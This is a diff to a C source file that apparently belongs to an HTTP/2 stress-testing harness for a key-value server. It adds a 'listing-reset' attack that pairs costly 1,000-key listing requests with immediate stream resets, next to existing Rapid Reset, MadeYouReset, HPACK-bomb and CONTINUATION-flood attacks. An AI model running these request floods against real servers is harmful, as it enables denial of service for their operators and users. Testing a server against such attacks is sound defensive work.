@@ -108,13 +108,29 @@ static void converse(struct attacker *attacker, attack_next next, bool deaf)
 
 /* ---- cancelled requests ------------------------------------------------------------------------------------------- */
 
-static void next_reset(struct attacker *attacker, struct kv_buf *out, uint32_t *stream)
+static void reset_burst(struct attacker *attacker, struct kv_buf *out, uint32_t *stream, const char *path)
 {
     for (unsigned i = 0; i < BURST; i++, *stream += 2) {
-        request(out, "GET", "/" ATTACK_KEY_MIDDLE, END_STREAM | END_HEADERS, *stream);
+        request(out, "GET", path, END_STREAM | END_HEADERS, *stream);
         frame32(out, RST_STREAM, *stream, 8);
     }
     attacker->units += BURST;
+}
+
+static void next_reset(struct attacker *attacker, struct kv_buf *out, uint32_t *stream)
+{
+    reset_burst(attacker, out, stream, "/" ATTACK_KEY_MIDDLE);
+}
+
+/* A line that costs the shards more than most. */
+static void next_listing_reset(struct attacker *attacker, struct kv_buf *out, uint32_t *stream)
+{
+    reset_burst(attacker, out, stream, "/keys?limit=1000");
+}
+
+static void run_listing_reset(struct attacker *attacker)
+{
+    converse(attacker, next_listing_reset, false);
 }
 
 static void run_rapid_reset(struct attacker *attacker)
@@ -525,6 +541,7 @@ static void run_fuzz(struct attacker *attacker)
 const struct attack attacks[] = {
     {"abort", "windows opened on streams that are written out (#1951)", 2, run_abort, true},
     {"rapid-reset", "requests that are reset at once (CVE-2023-44487)", 2, run_rapid_reset, false},
+    {"listing-reset", "pages of 1,000 keys that are reset at once", 2, run_listing_reset, false},
     {"made-you-reset", "requests that make the server reset (CVE-2025-8671)", 2, run_made_you_reset, false},
     {"header-bomb", "400 KB of one-byte header fields (HPACK bomb)", 2, run_header_bomb, false},
     {"continuations", "empty CONTINUATION frames without end", 2, run_continuations, false},
